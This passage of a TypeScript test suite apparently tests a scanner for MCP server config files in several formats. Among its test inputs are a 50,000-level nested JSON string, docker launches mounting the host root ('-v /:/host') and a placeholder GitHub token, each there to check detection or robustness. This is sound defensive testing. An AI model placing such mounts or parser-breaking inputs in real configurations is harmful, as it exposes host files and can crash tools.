    const deepZed = `{"context_servers": {"x": {"settings": ${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}}}`;
    const r = (() => {
      try {
        return zedSettings.parse(deepZed, '.zed/settings.json');
      } catch (err) {
        return err;
      }
    })();
    // Either read (the settings scan stops at a depth) or a ParseError; never a crash of another kind.
    expect(r instanceof Error ? r.name : 'ok').toMatch(/^(ok|ParseError)$/);
  });

  it('Codex: a TOML syntax error, mcp_servers of the wrong type, a server that is not a table, args of the wrong type', () => {
    const syntax = '[mcp_servers.x]\ncommand = "npx"\nargs = ["-y",\n';
    // The array is never closed: smol-toml stops at the end of the file, reported on its last line
    // (smol-toml's own count, one more, is past the end).
    expect(parseErrorOf(() => codexConfig.parse(syntax, '.codex/config.toml')).line).toBe(lineOf(syntax, 'args'));
    const section = 'model = "x"\nmcp_servers = "none"\n';
    expect(parseErrorOf(() => codexConfig.parse(section, '.codex/config.toml'))).toMatchObject({ line: lineOf(section, 'mcp_servers'), message: 'mcp_servers must be a table, found a string ("none")' });
    const notTable = '[mcp_servers]\nx = "npx"\n';
    expect(parseErrorOf(() => codexConfig.parse(notTable, '.codex/config.toml')).line).toBe(lineOf(notTable, 'x = '));
    const args = '[mcp_servers.x]\ncommand = "npx"\nargs = "-y x"\n';
    expect(parseErrorOf(() => codexConfig.parse(args, '.codex/config.toml'))).toMatchObject({ line: lineOf(args, 'args'), message: expect.stringMatching(/^mcp_servers\.x\.args must be an array of strings/) });
    const arg = '[mcp_servers.x]\ncommand = "npx"\nargs = [\n  "-y",\n  7,\n]\n';
    expect(parseErrorOf(() => codexConfig.parse(arg, '.codex/config.toml')).line).toBe(lineOf(arg, '7,'));
    const env = '[mcp_servers.x]\ncommand = "npx"\n[mcp_servers.x.env]\nA = 1\n';
    expect(parseErrorOf(() => codexConfig.parse(env, '.codex/config.toml')).line).toBe(lineOf(env, 'A = 1'));
  });

  it('Continue: a YAML syntax error, mcpServers not a list, an item without a name, a duplicate name', () => {
    const file = '.continue/mcpServers/x.yaml';
    const syntax = 'name: x\nmcpServers:\n  - name: a\n    args: [unclosed\n';
    // The flow sequence is never closed: the YAML reader stops at the end of the file, on its last line.
    expect(parseErrorOf(() => continueMcp.parse(syntax, file))).toMatchObject({ line: lineOf(syntax, 'args: [unclosed'), message: expect.stringMatching(/^invalid YAML/) });
    const map = 'name: x\nmcpServers:\n  a:\n    command: npx\n';
    expect(parseErrorOf(() => continueMcp.parse(map, file))).toMatchObject({ line: lineOf(map, 'a:'), message: 'mcpServers must be a list of servers, found a mapping' });
    const noName = 'name: x\nmcpServers:\n  - command: npx\n    args: [-y, a]\n';
    expect(parseErrorOf(() => continueMcp.parse(noName, file))).toMatchObject({ line: lineOf(noName, 'command'), message: 'mcpServers[0] has no name' });
    const dup = 'mcpServers:\n  - name: a\n    command: npx\n  - name: a\n    command: uvx\n';
    expect(parseErrorOf(() => continueMcp.parse(dup, file)).line).toBe(lineOf(dup, 'name: a', 'command: npx'));
    const badArgs = 'mcpServers:\n  - name: a\n    command: npx\n    args:\n      - -y\n      - { x: 1 }\n';
    expect(parseErrorOf(() => continueMcp.parse(badArgs, file)).line).toBe(lineOf(badArgs, '{ x: 1 }'));
    const scalar = 'just some text';
    expect(parseErrorOf(() => continueMcp.parse(scalar, file))).toMatchObject({ line: 1, message: expect.stringMatching(/must be a YAML mapping/) });
  });

  it('Continue YAML numbers in args are read as the text they are', () => {
    const text = 'mcpServers:\n  - name: a\n    command: npx\n    args: [-y, a-mcp@1.0.0, --port, 8080]\n';
    expect(parse(continueMcp, '.continue/mcpServers/a.yaml', text).servers[0].args).toEqual(['-y', 'a-mcp@1.0.0', '--port', '8080']);
  });

  it('YAML anchors and aliases are followed', () => {
    const text = 'x: &args [-y, a-mcp@1.0.0]\nmcpServers:\n  - name: a\n    command: npx\n    args: *args\n';
    expect(parse(continueMcp, '.continue/mcpServers/a.yaml', text).deps.map((d) => d.name)).toEqual(['a-mcp']);
  });
});

describe('remote servers', () => {
  it('transport from type, url, httpUrl and serverUrl', () => {
    const text = JSON.stringify({
      mcpServers: {
        a: { type: 'streamable-http', url: 'https://x.example/sse' },
        b: { url: 'https://x.example/sse' },
        c: { url: 'https://x.example/mcp' },
        d: { httpUrl: 'https://x.example/mcp' },
        e: { serverUrl: 'https://x.example/mcp' },
        f: { disabled: true },
      },
    });
    expect(parse(genericMcpJson, 'mcp.json', text).servers.map((s) => [s.name, s.transport])).toEqual([
      ['a', 'http'],
      ['b', 'sse'],
      ['c', 'http'],
      ['d', 'http'],
      ['e', 'http'],
      ['f', 'unknown'],
    ]);
  });

  it('a generic mcp.json may use either servers or mcpServers, keyed apart', () => {
    const text = JSON.stringify({ servers: { a: { command: 'uvx', args: ['a-mcp'] } }, mcpServers: { a: { command: 'uvx', args: ['a-mcp'] } } });
    const r = parse(genericMcpJson, 'mcp.json', text);
    expect(r.servers.map((s) => s.key)).toEqual(['mcpServers/a', 'servers/a']);
    expect(r.deps.map((d) => d.key)).toEqual(['mcpServers/a#pypi:a-mcp', 'servers/a#pypi:a-mcp']);
  });
});

describe('hostile sizes stay linear', () => {
  it('thousands of servers with long argument lists', () => {
    const servers: Record<string, unknown> = {};
    for (let k = 0; k < 3000; k++) {
      servers[`s${k}`] = { command: 'docker', args: ['run', ...Array.from({ length: 50 }, () => '-i'), '-v', '/:/host', `mcp/s${k}:1.0`], env: { [`TOKEN_${k}`]: '${T}' } };
    }
    const text = JSON.stringify({ mcpServers: servers }, null, 1);
    const started = Date.now();
    const r = parse(genericMcpJson, 'mcp.json', text);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(r.servers).toHaveLength(3000);
    expect(r.deps).toHaveLength(3000);
    expect(r.issues.filter((i) => i.rule === 'launcher')).toHaveLength(3000);
    expect(r.issues[2999].line).toBe(lineOf(text, '"docker"', '"s2999"'));
  });
});

describe('a config whose shape the gate does not know says so (config-shape)', () => {
  // Shape: a bare server map without "mcpServers", as some repositories commit as .cursor/mcp.json
  // (the `{ "name": { "command" | "url": … } }` map of a tool's own format).
  const bare = JSON.stringify({ docs: { url: 'https://docs.example.com/mcp' }, fs: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2026.8.31', '.'] } }, null, 2);

  it.each<[Format, string]>([
    [cursorMcp, '.cursor/mcp.json'],
    [claudeCodeMcp, '.mcp.json'],
    [claudeDesktopConfig, 'claude_desktop_config.json'],
    [genericMcpJson, 'mcp.json'],
  ])('a bare map of servers in %#: one notice naming the file and the servers, on the first one', (format, file) => {
    const r = parse(format, file, bare);
    expect(r.servers).toEqual([]);
    expect(r.issues).toEqual([{ rule: 'config-shape', key: 'config-shape', line: lineOf(bare, '"docs"'), message: expect.stringContaining(`${file} has no `) }]);
    expect(r.issues![0].message).toContain('"docs", "fs"');
    expect(r.issues![0].message).toContain('neither the client nor the gate sees these servers');
  });

  it('mcpServers in a VS Code file, which reads "servers": named', () => {
    const text = JSON.stringify({ mcpServers: { x: { command: 'npx', args: ['-y', 'a@1.0.0'] } } }, null, 2);
    const r = parse(vscodeMcp, '.vscode/mcp.json', text);
    expect(r.issues).toEqual([expect.objectContaining({ rule: 'config-shape', line: lineOf(text, '"mcpServers"') })]);
    expect(r.issues![0].message).toContain('its top-level keys are "mcpServers"');
    expect(r.issues![0].message).toContain('move them under "servers"');
  });

  it('Visual Studio reads .mcp.json at a solution root with VS Code\'s "servers" and "inputs": read, not a notice', () => {
    // Shape of modelcontextprotocol/csharp-sdk@e85068ef:.mcp.json (Visual Studio demos): `servers` with
    // `dotnet <built dll>` launches; an `inputs` default is still a literal value in the repository.
    const text = JSON.stringify(
      {
        inputs: [{ id: 'token', type: 'promptString', description: 'token', password: true, default: 'ghp_' + 'a'.repeat(36) }],
        servers: {
          'Fireworks Show Control': { type: 'stdio', command: 'dotnet', args: ['artifacts\\bin\\FireworksServer\\Debug\\net10.0\\FireworksServer.dll', '--McpTransport=stdio'] },
          docs: { command: 'npx', args: ['-y', 'acme-docs-mcp'] },
        },
      },
      null,
      2,
    );
    const r = parse(claudeCodeMcp, '.mcp.json', text);
    expect(r.servers!.map((x) => [x.name, x.line])).toEqual([
      ['Fireworks Show Control', lineOf(text, '"Fireworks Show Control"')],
      ['docs', lineOf(text, '"docs"')],
    ]);
    expect(r.deps!.map((d) => [d.name, d.line])).toEqual([['acme-docs-mcp', lineOf(text, '"docs"')]]);
    expect(r.issues!.map((i) => [i.rule, i.line])).toEqual([['secret', lineOf(text, '"default"')]]);
  });

  it('a path outside the repository is named on the server in a repository file, not in a user\'s own config (~/...)', () => {
    const text = JSON.stringify({ mcpServers: { MongoDB: { command: 'node', args: ['/Users/dev/mongodb-mcp-server/dist/esm/index.js'] } } }, null, 2);
    expect(parse(cursorMcp, '.cursor/mcp.json', text).servers![0].outside).toBe('/Users/dev/mongodb-mcp-server/dist/esm/index.js');
    expect(parse(cursorMcp, '~/.cursor/mcp.json', text).servers![0].outside).toBeUndefined();
  });

  it('a general settings file without servers is not an MCP config: no notice', () => {
    expect(parse(claudeDesktopConfig, 'claude_desktop_config.json', '{ "globalShortcut": "Ctrl+Space" }').issues).toEqual([]);
    expect(parse(geminiSettings, '.gemini/settings.json', '{ "theme": "GitHub" }').issues).toEqual([]);
  });

  it('an empty file of servers is fine: no notice', () => {
    expect(parse(cursorMcp, '.cursor/mcp.json', '{}').issues).toEqual([]);
    expect(parse(cursorMcp, '.cursor/mcp.json', '{ "mcpServers": {} }').issues).toEqual([]);
  });
});
